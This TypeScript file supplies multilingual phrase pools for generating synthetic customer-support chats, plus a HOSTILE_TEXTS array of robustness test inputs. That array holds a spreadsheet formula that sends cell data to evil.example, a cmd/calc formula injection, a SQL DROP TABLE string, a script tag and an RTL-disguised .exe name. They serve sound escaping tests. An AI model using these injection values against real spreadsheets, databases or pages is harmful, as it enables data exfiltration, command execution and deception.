import type { Language } from './pools.ts';

/**
 * Phrase pools for message threads, per language and intent. Templates hold
 * slots (`{order}`, `{product}`, `{days}`, `{amount}`, `{agent}`) that the
 * generator fills by concatenating pre-split parts: no parsing in the hot loop.
 */

export const INTENTS = [
  'order_status',
  'shipping',
  'returns',
  'billing',
  'account_access',
  'product_info',
  'technical_issue',
  'cancellation',
] as const;
export type Intent = (typeof INTENTS)[number];

/** Knowledge-base category that answers each intent. */
export const INTENT_CATEGORY: Record<Intent, string> = {
  order_status: 'orders',
  shipping: 'shipping',
  returns: 'returns',
  billing: 'billing',
  account_access: 'account',
  product_info: 'products',
  technical_issue: 'troubleshooting',
  cancellation: 'billing',
};

export const INTENT_TOPICS: Record<Intent, readonly string[]> = {
  order_status: ['orders', 'delivery', 'tracking'],
  shipping: ['shipping', 'delivery', 'international'],
  returns: ['returns', 'refunds', 'exchanges'],
  billing: ['billing', 'invoices', 'payments'],
  account_access: ['account', 'login', 'security'],
  product_info: ['products', 'pricing', 'availability'],
  technical_issue: ['bugs', 'checkout', 'mobile app'],
  cancellation: ['cancellation', 'subscriptions', 'refunds'],
};

/** Mean sentiment of the visitor's messages per intent. */
export const INTENT_SENTIMENT: Record<Intent, number> = {
  order_status: -0.05,
  shipping: 0.05,
  returns: -0.2,
  billing: -0.25,
  account_access: -0.3,
  product_info: 0.3,
  technical_issue: -0.4,
  cancellation: -0.35,
};

interface LanguagePhrases {
  questions: Record<Intent, readonly string[]>;
  answers: Record<Intent, readonly string[]>;
  greetings: readonly string[];
  followUps: readonly string[];
  /** The AI's reply to each follow-up, same order. */
  aiFollowUps: readonly string[];
  thanks: readonly string[];
  aiClosing: readonly string[];
  handoff: readonly string[];
  humanIntro: readonly string[];
  /** An agent's later messages; the first one answers the question after `humanIntro`. */
  humanReplies: readonly string[];
  /** Sentences that carry personal data: `{email}`, `{phone}`, `{card}`, `{ip}`, `{order}`. */
  pii: { email: string; phone: string; card: string; ip: string; order: string };
  feedbackGood: readonly string[];
  feedbackBad: readonly string[];
  widgetGreeting: string;
}

const en: LanguagePhrases = {
  questions: {
    order_status: [
      'Where is my order {order}?',
      'Hi, my order {order} still shows "processing". Any update?',
    ],
    shipping: [
      'How long does shipping to my country take?',
      'Do you ship the {product} internationally, and what does it cost?',
    ],
    returns: ['I want to return the {product} I bought last week.', 'How do I send back a damaged item?'],
    billing: ['I was charged twice for order {order}.', 'Can I get an invoice with my company VAT number?'],
    account_access: [
      "I can't log in, the reset link never arrives.",
      'How do I change the email on my account?',
    ],
    product_info: [
      'Is the {product} available in blue?',
      'What is the difference between the {product} models?',
    ],
    technical_issue: [
      'The checkout page shows an error when I pay by card.',
      'Your app crashes when I open my orders.',
    ],
    cancellation: ['Please cancel my subscription.', 'How do I cancel before the next renewal?'],
  },
  answers: {
    order_status: [
      'Order {order} left our warehouse and should arrive within {days} days. You can follow it with the tracking link in your confirmation email.',
      "I checked order {order}: it's packed and waiting for the carrier. Orders usually ship within 24 hours.",
    ],
    shipping: [
      'We ship to over 40 countries. Standard delivery takes {days} business days; express is available at checkout.',
      'International shipping for the {product} costs {amount} and takes {days} to {days2} days.',
    ],
    returns: [
      'You can return items within 30 days. Start a return from "My orders" and print the prepaid label.',
      "I'm sorry it arrived damaged. Please send a photo and we'll send a replacement or refund {amount}.",
    ],
    billing: [
      'I can see two payments for {order}. The duplicate is a pre-authorisation and will be released within {days} days.',
      'Yes: add your VAT number under Account → Billing and download the invoice again.',
    ],
    account_access: [
      'Please check your spam folder. If the link still does not arrive, I can send a new one to the address on file.',
      'Go to Account → Profile, enter the new email and confirm it from the message we send you.',
    ],
    product_info: [
      'The {product} comes in black, blue and sand. Blue is back in stock in {days} days.',
      'The Pro model of the {product} has a larger battery and a two-year warranty.',
    ],
    technical_issue: [
      'Thanks for reporting this. Could you try another browser or clear the cache? Our team is looking into card payments.',
      'Please update the app to the latest version; this crash was fixed last week.',
    ],
    cancellation: [
      'You can cancel any time under Account → Subscription. Access stays active until the end of the period.',
      'I can help with that. Your plan renews in {days} days, so cancelling now avoids the next charge.',
    ],
  },
  greetings: ['Hi!', 'Hello.', 'Good morning.', 'Hey there!'],
  followUps: [
    'Okay, and how long will that take?',
    'Thanks. Is there anything else I need to do?',
    'That did not work, unfortunately.',
    'Can you check again, please?',
    'What if it still does not arrive by Friday?',
  ],
  aiFollowUps: [
    'Usually within {days} days. I will keep this conversation open in case you need anything else.',
    "No, that's all. You'll get an email confirmation shortly.",
    "I'm sorry to hear that. Let me look at it from another angle.",
    'I checked again: everything looks fine on our side, {days} more days at most.',
    'If nothing has changed by then, reply here and we will sort it out right away.',
  ],
  thanks: ['Great, thanks!', 'Perfect, thank you.', 'Thanks for the quick help 🙂', 'ok thx'],
  aiClosing: ['Glad I could help! Have a nice day.', 'You are welcome. Anything else I can do for you?'],
  handoff: [
    "I'll connect you with a colleague from our support team who can look into this.",
    'This needs a person to check. I am transferring you to a human agent now.',
  ],
  humanIntro: [
    "Hi, this is {agent} from support. I've read the conversation.",
    'Hello, {agent} here. Let me take a look.',
  ],
  humanReplies: [
    "I've checked it on our side and fixed it; you'll get a confirmation email in a minute.",
    'Thanks for your patience. Everything is sorted on our side.',
    "I've added a note to your account so the team knows the history.",
    'Let me check with my colleagues, one moment please.',
  ],
  pii: {
    email: 'You can reach me at {email}.',
    phone: 'My phone number is {phone} if that is easier.',
    card: 'I paid with card {card}, can you check?',
    ip: 'My IT team says our office IP is {ip}, maybe it is blocked?',
    order: 'The order number is {order}.',
  },
  feedbackGood: ['Fast and friendly, thanks!', 'Solved my problem in two minutes.', 'Great support 👍'],
  feedbackBad: ['Took far too long.', 'The bot did not understand me.', 'Still waiting for my refund.'],
  widgetGreeting: 'Hi! How can we help you today?',
};

const de: LanguagePhrases = {
  questions: {
    order_status: [
      'Wo ist meine Bestellung {order}?',
      'Hallo, meine Bestellung {order} steht noch auf „in Bearbeitung“.',
    ],
    shipping: [
      'Wie lange dauert der Versand nach Österreich?',
      'Versendet ihr den {product} auch in die Schweiz?',
    ],
    returns: ['Ich möchte den {product} zurückschicken.', 'Wie sende ich einen beschädigten Artikel zurück?'],
    billing: [
      'Mir wurde die Bestellung {order} doppelt abgebucht.',
      'Kann ich eine Rechnung mit USt-IdNr. bekommen?',
    ],
    account_access: [
      'Ich kann mich nicht einloggen, der Link kommt nicht an.',
      'Wie ändere ich meine E-Mail-Adresse?',
    ],
    product_info: [
      'Gibt es den {product} auch in Blau?',
      'Was ist der Unterschied zwischen den {product}-Modellen?',
    ],
    technical_issue: [
      'Beim Bezahlen mit Karte kommt eine Fehlermeldung.',
      'Die App stürzt ab, wenn ich Bestellungen öffne.',
    ],
    cancellation: ['Bitte kündigen Sie mein Abo.', 'Wie kündige ich vor der nächsten Verlängerung?'],
  },
  answers: {
    order_status: [
      'Die Bestellung {order} hat unser Lager verlassen und kommt in {days} Tagen an. Den Link zur Sendungsverfolgung finden Sie in der Bestätigungsmail.',
      'Ich habe {order} geprüft: Sie ist verpackt und wartet auf den Paketdienst.',
    ],
    shipping: [
      'Der Standardversand dauert {days} Werktage; Express können Sie an der Kasse wählen.',
      'Der Versand des {product} ins Ausland kostet {amount} und dauert {days} bis {days2} Tage.',
    ],
    returns: [
      'Sie können Artikel innerhalb von 30 Tagen zurückgeben. Starten Sie die Rücksendung unter „Meine Bestellungen“.',
      'Das tut mir leid. Schicken Sie uns bitte ein Foto, dann erstatten wir {amount} oder senden Ersatz.',
    ],
    billing: [
      'Ich sehe zwei Zahlungen zu {order}. Die doppelte ist eine Vorautorisierung und wird in {days} Tagen freigegeben.',
      'Ja: Tragen Sie Ihre USt-IdNr. unter Konto → Abrechnung ein und laden Sie die Rechnung erneut herunter.',
    ],
    account_access: [
      'Bitte prüfen Sie Ihren Spam-Ordner. Ich kann Ihnen auch einen neuen Link senden.',
      'Unter Konto → Profil können Sie die neue Adresse eintragen und bestätigen.',
    ],
    product_info: [
      'Den {product} gibt es in Schwarz, Blau und Sand. Blau ist in {days} Tagen wieder verfügbar.',
      'Das Pro-Modell des {product} hat einen größeren Akku und zwei Jahre Garantie.',
    ],
    technical_issue: [
      'Danke für den Hinweis. Versuchen Sie es bitte mit einem anderen Browser; unser Team prüft die Kartenzahlung.',
      'Bitte aktualisieren Sie die App, der Absturz wurde letzte Woche behoben.',
    ],
    cancellation: [
      'Sie können jederzeit unter Konto → Abo kündigen. Der Zugang bleibt bis zum Ende der Laufzeit aktiv.',
      'Ihr Abo verlängert sich in {days} Tagen; wenn Sie jetzt kündigen, fällt keine weitere Zahlung an.',
    ],
  },
  greetings: ['Hallo!', 'Guten Tag.', 'Moin!', 'Hi!'],
  followUps: [
    'Okay, und wie lange dauert das?',
    'Danke. Muss ich sonst noch etwas tun?',
    'Das hat leider nicht funktioniert.',
    'Können Sie bitte noch einmal nachsehen?',
  ],
  aiFollowUps: [
    'In der Regel {days} Tage. Ich lasse das Gespräch offen, falls Sie noch Fragen haben.',
    'Nein, das war alles. Sie erhalten gleich eine Bestätigung per E-Mail.',
    'Das tut mir leid. Ich schaue mir das noch einmal genauer an.',
    'Ich habe noch einmal nachgesehen: Bei uns ist alles in Ordnung, spätestens in {days} Tagen.',
  ],
  thanks: ['Super, danke!', 'Perfekt, vielen Dank.', 'Danke für die schnelle Hilfe 🙂'],
  aiClosing: ['Gern geschehen! Einen schönen Tag noch.', 'Kann ich sonst noch etwas für Sie tun?'],
  handoff: [
    'Ich verbinde Sie mit einer Kollegin aus unserem Support-Team.',
    'Das muss sich ein Mensch ansehen. Ich leite Sie an einen Mitarbeiter weiter.',
  ],
  humanIntro: [
    'Hallo, hier ist {agent} vom Support. Ich habe den Verlauf gelesen.',
    'Guten Tag, {agent} hier.',
  ],
  humanReplies: [
    'Ich habe das bei uns geprüft und korrigiert; Sie erhalten gleich eine Bestätigung per E-Mail.',
    'Danke für Ihre Geduld. Bei uns ist jetzt alles erledigt.',
    'Ich habe eine Notiz an Ihrem Konto hinterlegt.',
    'Ich kläre das kurz mit den Kollegen, einen Moment bitte.',
  ],
  pii: {
    email: 'Sie erreichen mich unter {email}.',
    phone: 'Meine Telefonnummer ist {phone}.',
    card: 'Ich habe mit der Karte {card} bezahlt.',
    ip: 'Unsere Büro-IP ist {ip}, ist die vielleicht gesperrt?',
    order: 'Die Bestellnummer lautet {order}.',
  },
  feedbackGood: ['Schnell und freundlich, danke!', 'Problem sofort gelöst.', 'Top Service 👍'],
  feedbackBad: [
    'Hat viel zu lange gedauert.',
    'Der Bot hat mich nicht verstanden.',
    'Warte immer noch auf mein Geld.',
  ],
  widgetGreeting: 'Hallo! Wie können wir Ihnen helfen?',
};

const fr: LanguagePhrases = {
  questions: {
    order_status: [
      'Où en est ma commande {order} ?',
      'Bonjour, ma commande {order} est toujours « en préparation ».',
    ],
    shipping: ['Combien de temps prend la livraison en Belgique ?', 'Livrez-vous le {product} en Suisse ?'],
    returns: ['Je voudrais retourner le {product}.', 'Comment renvoyer un article abîmé ?'],
    billing: [
      'J’ai été débité deux fois pour la commande {order}.',
      'Puis-je avoir une facture avec mon numéro de TVA ?',
    ],
    account_access: ['Je n’arrive pas à me connecter.', 'Comment changer l’adresse e-mail de mon compte ?'],
    product_info: [
      'Le {product} existe-t-il en bleu ?',
      'Quelle est la différence entre les modèles {product} ?',
    ],
    technical_issue: [
      'Le paiement par carte affiche une erreur.',
      'L’application plante quand j’ouvre mes commandes.',
    ],
    cancellation: [
      'Merci de résilier mon abonnement.',
      'Comment résilier avant le prochain renouvellement ?',
    ],
  },
  answers: {
    order_status: [
      'La commande {order} a quitté notre entrepôt et arrivera sous {days} jours.',
      'J’ai vérifié {order} : elle est emballée et attend le transporteur.',
    ],
    shipping: [
      'La livraison standard prend {days} jours ouvrés ; l’express est proposé au paiement.',
      'La livraison du {product} à l’étranger coûte {amount} et prend {days} à {days2} jours.',
    ],
    returns: [
      'Vous avez 30 jours pour retourner un article depuis « Mes commandes ».',
      'Désolé pour ce désagrément. Envoyez-nous une photo et nous rembourserons {amount}.',
    ],
    billing: [
      'Je vois deux paiements pour {order}. Le doublon est une pré-autorisation libérée sous {days} jours.',
      'Oui : ajoutez votre numéro de TVA dans Compte → Facturation puis téléchargez la facture.',
    ],
    account_access: [
      'Vérifiez vos courriers indésirables ; je peux aussi vous renvoyer un lien.',
      'Dans Compte → Profil, saisissez la nouvelle adresse et confirmez-la.',
    ],
    product_info: [
      'Le {product} existe en noir, bleu et sable. Le bleu revient dans {days} jours.',
      'Le modèle Pro du {product} a une batterie plus grande et deux ans de garantie.',
    ],
    technical_issue: [
      'Merci du signalement. Essayez un autre navigateur ; notre équipe examine les paiements par carte.',
      'Mettez l’application à jour, ce plantage a été corrigé la semaine dernière.',
    ],
    cancellation: [
      'Vous pouvez résilier à tout moment dans Compte → Abonnement.',
      'Votre abonnement se renouvelle dans {days} jours ; en résiliant maintenant, aucun autre prélèvement.',
    ],
  },
  greetings: ['Bonjour.', 'Salut !', 'Bonsoir.'],
  followUps: ['D’accord, et combien de temps ?', 'Merci. Dois-je faire autre chose ?', 'Ça n’a pas marché.'],
  aiFollowUps: [
    'En général {days} jours. Je garde la conversation ouverte.',
    'Non, c’est tout. Vous recevrez une confirmation par e-mail.',
    'Je suis désolé. Regardons cela autrement.',
  ],
  thanks: ['Super, merci !', 'Parfait, merci beaucoup.', 'Merci pour l’aide rapide 🙂'],
  aiClosing: ['Avec plaisir ! Bonne journée.', 'Puis-je faire autre chose pour vous ?'],
  handoff: [
    'Je vous mets en relation avec un collègue du support.',
    'Je transfère la conversation à un conseiller.',
  ],
  humanIntro: ['Bonjour, ici {agent} du support.', 'Bonjour, {agent} à votre service.'],
  humanReplies: [
    'J’ai vérifié et corrigé de notre côté ; vous recevrez une confirmation par e-mail.',
    'Tout est réglé de notre côté, merci de votre patience.',
    'J’ai ajouté une note à votre compte.',
    'Je vérifie avec mes collègues, un instant s’il vous plaît.',
  ],
  pii: {
    email: 'Vous pouvez m’écrire à {email}.',
    phone: 'Mon numéro est le {phone}.',
    card: 'J’ai payé avec la carte {card}.',
    ip: 'L’IP de notre bureau est {ip}, est-elle bloquée ?',
    order: 'Le numéro de commande est {order}.',
  },
  feedbackGood: ['Rapide et aimable, merci !', 'Problème résolu tout de suite.'],
  feedbackBad: ['Beaucoup trop long.', 'Le robot ne m’a pas compris.'],
  widgetGreeting: 'Bonjour ! Comment pouvons-nous vous aider ?',
};

const es: LanguagePhrases = {
  questions: {
    order_status: ['¿Dónde está mi pedido {order}?', 'Hola, mi pedido {order} sigue "en preparación".'],
    shipping: ['¿Cuánto tarda el envío a México?', '¿Enviáis el {product} a Portugal?'],
    returns: ['Quiero devolver el {product}.', '¿Cómo devuelvo un artículo dañado?'],
    billing: ['Me cobraron dos veces el pedido {order}.', '¿Puedo recibir una factura con mi NIF?'],
    account_access: ['No puedo iniciar sesión.', '¿Cómo cambio el correo de mi cuenta?'],
    product_info: [
      '¿El {product} está disponible en azul?',
      '¿Qué diferencia hay entre los modelos {product}?',
    ],
    technical_issue: ['El pago con tarjeta da error.', 'La app se cierra al abrir mis pedidos.'],
    cancellation: ['Por favor, cancelad mi suscripción.', '¿Cómo cancelo antes de la renovación?'],
  },
  answers: {
    order_status: [
      'El pedido {order} salió del almacén y llegará en {days} días.',
      'He revisado {order}: está empaquetado y espera al transportista.',
    ],
    shipping: [
      'El envío estándar tarda {days} días hábiles; el exprés se elige al pagar.',
      'El envío internacional del {product} cuesta {amount} y tarda de {days} a {days2} días.',
    ],
    returns: [
      'Tienes 30 días para devolver artículos desde "Mis pedidos".',
      'Lo siento. Envíanos una foto y te reembolsaremos {amount}.',
    ],
    billing: [
      'Veo dos cargos de {order}. El duplicado es una preautorización y se libera en {days} días.',
      'Sí: añade tu NIF en Cuenta → Facturación y descarga la factura de nuevo.',
    ],
    account_access: [
      'Revisa la carpeta de spam; también puedo enviarte un enlace nuevo.',
      'En Cuenta → Perfil puedes cambiarlo.',
    ],
    product_info: [
      'El {product} viene en negro, azul y arena.',
      'El modelo Pro del {product} tiene más batería.',
    ],
    technical_issue: [
      'Gracias por avisar. Prueba con otro navegador.',
      'Actualiza la app; el fallo ya está corregido.',
    ],
    cancellation: [
      'Puedes cancelar cuando quieras en Cuenta → Suscripción.',
      'Tu plan se renueva en {days} días.',
    ],
  },
  greetings: ['¡Hola!', '¡Buenos días!', '¡Buenas!'],
  followUps: ['Vale, ¿y cuánto tarda?', 'Gracias. ¿Tengo que hacer algo más?', 'No ha funcionado.'],
  aiFollowUps: [
    'Normalmente {days} días.',
    'No, eso es todo. Recibirás un correo de confirmación.',
    'Lo siento, lo reviso de nuevo.',
  ],
  thanks: ['¡Genial, gracias!', 'Perfecto, muchas gracias.', 'Gracias por la ayuda 🙂'],
  aiClosing: ['¡Un placer! Que tengas un buen día.', '¿Puedo ayudarte en algo más?'],
  handoff: ['Te paso con un compañero del equipo de soporte.', 'Transfiero la conversación a un agente.'],
  humanIntro: ['Hola, soy {agent} de soporte.', 'Buenas, {agent} por aquí.'],
  humanReplies: [
    'Lo he revisado y corregido; recibirás un correo de confirmación.',
    'Gracias por tu paciencia, ya está todo resuelto.',
    'He dejado una nota en tu cuenta.',
    'Lo consulto con mis compañeros, un momento por favor.',
  ],
  pii: {
    email: 'Mi correo es {email}.',
    phone: 'Mi teléfono es {phone}.',
    card: 'Pagué con la tarjeta {card}.',
    ip: 'La IP de la oficina es {ip}, ¿está bloqueada?',
    order: 'El número de pedido es {order}.',
  },
  feedbackGood: ['Rápido y amable, ¡gracias!', 'Resuelto al momento.'],
  feedbackBad: ['Tardó demasiado.', 'El bot no me entendió.'],
  widgetGreeting: '¡Hola! ¿En qué podemos ayudarte?',
};

const pt: LanguagePhrases = {
  questions: {
    order_status: [
      'Onde está meu pedido {order}?',
      'Olá, meu pedido {order} ainda aparece "em processamento".',
    ],
    shipping: ['Quanto tempo demora a entrega para Portugal?', 'Vocês enviam o {product} para o exterior?'],
    returns: ['Quero devolver o {product}.', 'Como devolvo um item danificado?'],
    billing: ['Fui cobrado duas vezes pelo pedido {order}.', 'Posso receber nota fiscal com meu CNPJ?'],
    account_access: ['Não consigo entrar na minha conta.', 'Como altero o e-mail da conta?'],
    product_info: ['O {product} está disponível em azul?', 'Qual a diferença entre os modelos {product}?'],
    technical_issue: ['O pagamento com cartão dá erro.', 'O app fecha quando abro meus pedidos.'],
    cancellation: ['Por favor, cancelem minha assinatura.', 'Como cancelo antes da renovação?'],
  },
  answers: {
    order_status: [
      'O pedido {order} saiu do nosso armazém e chega em {days} dias.',
      'Verifiquei {order}: está embalado e aguardando a transportadora.',
    ],
    shipping: [
      'A entrega padrão leva {days} dias úteis; a expressa pode ser escolhida no checkout.',
      'O envio internacional do {product} custa {amount} e leva de {days} a {days2} dias.',
    ],
    returns: [
      'Você tem 30 dias para devolver pelo menu "Meus pedidos".',
      'Sinto muito. Envie uma foto e reembolsamos {amount}.',
    ],
    billing: [
      'Vejo duas cobranças de {order}. A duplicada é uma pré-autorização liberada em {days} dias.',
      'Sim: informe o CNPJ em Conta → Cobrança e baixe a nota novamente.',
    ],
    account_access: [
      'Verifique a caixa de spam; posso enviar um novo link.',
      'Em Conta → Perfil você altera o e-mail.',
    ],
    product_info: ['O {product} vem em preto, azul e areia.', 'O modelo Pro do {product} tem bateria maior.'],
    technical_issue: [
      'Obrigado por avisar. Tente outro navegador.',
      'Atualize o app; o erro já foi corrigido.',
    ],
    cancellation: [
      'Você pode cancelar a qualquer momento em Conta → Assinatura.',
      'Seu plano renova em {days} dias.',
    ],
  },
  greetings: ['Olá!', 'Bom dia!', 'Oi!'],
  followUps: ['Certo, e quanto tempo leva?', 'Obrigado. Preciso fazer mais alguma coisa?', 'Não funcionou.'],
  aiFollowUps: [
    'Normalmente {days} dias.',
    'Não, é só isso. Você receberá um e-mail de confirmação.',
    'Sinto muito, vou verificar de novo.',
  ],
  thanks: ['Ótimo, obrigado!', 'Perfeito, muito obrigada.', 'Valeu pela ajuda 🙂'],
  aiClosing: ['Por nada! Tenha um ótimo dia.', 'Posso ajudar em algo mais?'],
  handoff: ['Vou transferir você para um colega do suporte.', 'Vou passar a conversa para um atendente.'],
  humanIntro: ['Olá, aqui é {agent} do suporte.', 'Oi, {agent} falando.'],
  humanReplies: [
    'Verifiquei e corrigi aqui; você receberá um e-mail de confirmação.',
    'Obrigado pela paciência, já está tudo resolvido.',
    'Deixei uma observação na sua conta.',
    'Vou verificar com meus colegas, um momento por favor.',
  ],
  pii: {
    email: 'Meu e-mail é {email}.',
    phone: 'Meu telefone é {phone}.',
    card: 'Paguei com o cartão {card}.',
    ip: 'O IP do escritório é {ip}, está bloqueado?',
    order: 'O número do pedido é {order}.',
  },
  feedbackGood: ['Rápido e simpático, obrigado!', 'Resolveu na hora.'],
  feedbackBad: ['Demorou demais.', 'O robô não me entendeu.'],
  widgetGreeting: 'Olá! Como podemos ajudar?',
};

const ja: LanguagePhrases = {
  questions: {
    order_status: ['注文{order}はいつ届きますか？', '注文{order}がまだ「処理中」のままです。'],
    shipping: ['海外への配送は何日かかりますか？', '{product}は海外発送できますか？'],
    returns: ['{product}を返品したいです。', '破損した商品の返品方法を教えてください。'],
    billing: ['注文{order}が二重に請求されました。', '会社名入りの領収書は発行できますか？'],
    account_access: ['ログインできません。', 'アカウントのメールアドレスを変更したいです。'],
    product_info: ['{product}の青色はありますか？', '{product}のモデルの違いは何ですか？'],
    technical_issue: ['カード決済でエラーが出ます。', 'アプリで注文履歴を開くと落ちます。'],
    cancellation: ['サブスクリプションを解約してください。', '次回更新前に解約する方法は？'],
  },
  answers: {
    order_status: [
      '注文{order}は出荷済みで、{days}日以内に到着予定です。',
      '{order}を確認しました。梱包済みで配送業者を待っています。',
    ],
    shipping: [
      '通常配送は{days}営業日です。お急ぎ便もご利用いただけます。',
      '{product}の海外送料は{amount}で、{days}〜{days2}日かかります。',
    ],
    returns: [
      'ご購入から30日以内であれば「注文履歴」から返品できます。',
      '申し訳ございません。写真をお送りいただければ{amount}を返金します。',
    ],
    billing: [
      '{order}の二重請求は仮売上で、{days}日以内に取り消されます。',
      'アカウント → 請求情報から会社名を追加できます。',
    ],
    account_access: [
      '迷惑メールフォルダをご確認ください。新しいリンクもお送りできます。',
      'アカウント → プロフィールで変更できます。',
    ],
    product_info: [
      '{product}は黒・青・サンドの3色です。',
      '{product}のProモデルはバッテリーが大きく、保証は2年です。',
    ],
    technical_issue: [
      'ご報告ありがとうございます。別のブラウザでお試しください。',
      'アプリを最新版に更新してください。',
    ],
    cancellation: ['アカウント → サブスクリプションからいつでも解約できます。', '次回更新は{days}日後です。'],
  },
  greetings: ['こんにちは。', 'お世話になっております。', 'すみません、'],
  followUps: [
    'どのくらいかかりますか？',
    'ありがとうございます。他に必要なことはありますか？',
    'うまくいきませんでした。',
  ],
  aiFollowUps: [
    '通常{days}日です。',
    '以上です。確認メールをお送りします。',
    '申し訳ございません。もう一度確認します。',
  ],
  thanks: ['ありがとうございます！', '助かりました。', '早い対応ありがとう🙂'],
  aiClosing: ['お役に立てて嬉しいです。', '他にお手伝いできることはありますか？'],
  handoff: ['担当者におつなぎします。少々お待ちください。', 'サポートスタッフに引き継ぎます。'],
  humanIntro: ['サポート担当の{agent}です。履歴を拝見しました。', '{agent}と申します。確認いたします。'],
  humanReplies: [
    'こちらで確認し、修正しました。確認メールをお送りします。',
    'お待たせいたしました。対応が完了しました。',
    'アカウントにメモを残しました。',
    '担当部署に確認しますので、少々お待ちください。',
  ],
  pii: {
    email: '連絡先は{email}です。',
    phone: '電話番号は{phone}です。',
    card: 'カード{card}で支払いました。',
    ip: '会社のIPは{ip}です。ブロックされていますか？',
    order: '注文番号は{order}です。',
  },
  feedbackGood: ['迅速で丁寧でした。', 'すぐに解決しました。'],
  feedbackBad: ['時間がかかりすぎました。', 'ボットが理解してくれませんでした。'],
  widgetGreeting: 'こんにちは！ご用件をお聞かせください。',
};

export const PHRASES: Record<Language, LanguagePhrases> = { en, de, fr, es, ja, pt };

/**
 * Fixed hostile values for robustness: spreadsheet formula prefixes, tabs,
 * quotes, commas, line breaks, emoji, 4-byte UTF-8 and bidirectional marks.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Click for your refund")',
  '+49 30 1234567 call me back',
  '-2+3 is what the invoice says, why?',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\tIndented with a tab, "quoted", and, commas',
  'Line one\nLine two, with "quotes"\r\nLine three',
  'Great service 👍🏽😀 — 𝒻𝒶𝓃𝒸𝓎 text and 𠜎 (4-byte UTF-8)',
  '\u200Fمرحبا، أحتاج مساعدة في طلبي رقم 4411\u200F',
  'file name: \u202Egnp.exe (right-to-left override)',
  "'; DROP TABLE messages; --",
  '<script>alert("x")</script> & <b>bold</b>',
  '"Quoted, start" and a backslash \\ and {braces}',
];

/** Splits a template into literal parts and slot names (odd indices). */
export function compile(template: string): string[] {
  return template.split(/\{(\w+)\}/);
}
